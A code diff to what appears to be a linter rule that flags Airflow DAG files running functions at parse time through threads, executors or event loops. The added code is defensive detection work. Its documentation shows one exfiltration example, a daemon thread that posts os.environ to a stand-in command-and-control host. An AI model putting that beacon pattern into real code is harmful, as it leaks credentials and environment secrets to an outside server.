@@ -16,6 +16,19 @@ const STARTERS: ReadonlyMap<string, string> = new Map([
   ['threading.settrace', 'a thread trace hook'],
 ]);
 
+/**
+ * Executors and event loops that run a function handed to them (any receiver): reported only when that function
+ * is local and reaches the network, a process or exec — `pool.submit(f)` is ordinary code otherwise.
+ */
+const RUNNERS: ReadonlyMap<string, string> = new Map([
+  ['submit', 'an executor task'],
+  ['apply_async', 'a pool task'],
+  ['run_in_executor', 'an executor task'],
+  ['call_soon', 'an event-loop callback'],
+  ['call_later', 'an event-loop callback'],
+  ['start_new_thread', 'a thread'],
+]);
+
 export default defineRule({
   meta: {
     id: 'DG613',
@@ -28,14 +41,14 @@ export default defineRule({
     },
     docs: {
       what:
-        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`. *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
+        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`; and executors or event loops given a local function that reaches the network or starts processes (`pool.submit(f)`, `loop.run_in_executor(None, f)`, `loop.call_later(5, f)`, `_thread.start_new_thread(f, ())`: *high*). *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
       why:
         'Parse-time rules look at module-level code because function bodies do not run at import — unless the module starts them: a thread keeps running in the dag-processor after the import returns, an exit handler runs when the processor recycles, a signal handler or trace hook runs inside Airflow\'s own code. It is how a malicious DAG file defers its payload past a naive review.',
       example: '```python\nimport threading, requests, os\ndef _beacon():\n    requests.post("https://c2.example", data=dict(os.environ))\nthreading.Thread(target=_beacon, daemon=True).start()\n```',
       useInstead: 'Do work in tasks. A DAG file should only define DAGs and tasks.',
     },
   },
-  calls: [...STARTERS.keys()],
+  calls: [...STARTERS.keys(), ...[...RUNNERS.keys()].map((m) => `**.${m}`)],
   onFile(ctx) {
     for (const l of localCallsAtParseTime(ctx)) {
       const k = l.reach.kinds;
@@ -46,6 +59,18 @@ export default defineRule({
   onCall(call, fn, ctx) {
     if (!ctx.isParseTime(call)) return;
     const args = callArgs(call);
+    const runner = STARTERS.has(fn) ? undefined : RUNNERS.get(fn.slice(fn.lastIndexOf('.') + 1));
+    if (runner !== undefined) {
+      // pool.submit(f), loop.run_in_executor(None, f), loop.call_later(5, f), _thread.start_new_thread(f, ())
+      for (const a of args.positional.slice(0, 2)) {
+        const t = unwrap(a);
+        if (t.type !== 'identifier' && t.type !== 'lambda') continue;
+        const reach = reachOfTarget(ctx, t);
+        if (reach) ctx.report(call, { what: runner, fn: t.type === 'lambda' ? 'a lambda' : t.text, reach: ', and that function reaches the network, starts processes or runs code' }, { severity: 'high' });
+        return;
+      }
+      return;
+    }
     const target =
       fn === 'signal.signal'
         ? args.positional[1] ?? args.keywords.get('handler')
